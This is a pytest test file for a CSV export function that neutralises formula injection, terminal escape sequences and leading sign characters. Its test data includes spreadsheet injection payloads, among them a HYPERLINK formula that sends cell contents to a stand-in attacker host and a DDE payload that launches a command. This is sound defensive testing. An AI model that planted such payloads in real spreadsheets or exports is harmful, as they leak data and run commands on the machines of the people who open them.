"""CSV: no value from outside becomes a formula, and every one can be had back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zt.cli.export import guarded, write_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "'=1",
    "'",
    "-",
]
PLAIN = ["", "sip:bob@example.org", "+4930123456", "-17", "+0.5", "192.0.2.1", "a=b", "2026-01-02"]
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=8) | st.sampled_from(FORMULAS)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_is_text(text: str) -> None:
    assert guarded(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_what_calculates_nothing_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


def test_figures_are_no_texts() -> None:
    assert [guarded(cell) for cell in (-17, 0.5, 1e300, None)] == ["-17", "0.5", "1e+300", ""]


@given(TEXTS)
def test_values_come_back_and_none_is_a_formula(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["x", guarded(text)])
    [[_, cell]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert cell.removeprefix("'") == text
    first = cell.strip()[:1]
    assert first not in tuple("=+-@＝＋－＠") or cell.lstrip("+-").replace(".", "").isdecimal()


def test_lines_are_those_of_rfc_4180(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    write_csv(["name", "count"], [['a "b", c\nd', 3], ["=x", None]])
    out = capfdbinary.readouterr().out
    assert out == b'name,count\r\n"a ""b"", c\nd",3\r\n\'=x,\r\n'


def test_headings_are_guarded_too(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    write_csv(["=evil"], [])
    assert capfdbinary.readouterr().out == b"'=evil\r\n"


def test_on_a_terminal_nothing_steers_it(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    write_csv(["name"], [["\x1b[2J\u202egone"]])
    assert capsys.readouterr().out == "name\r\n\\x1b[2J\\u202egone\r\n"
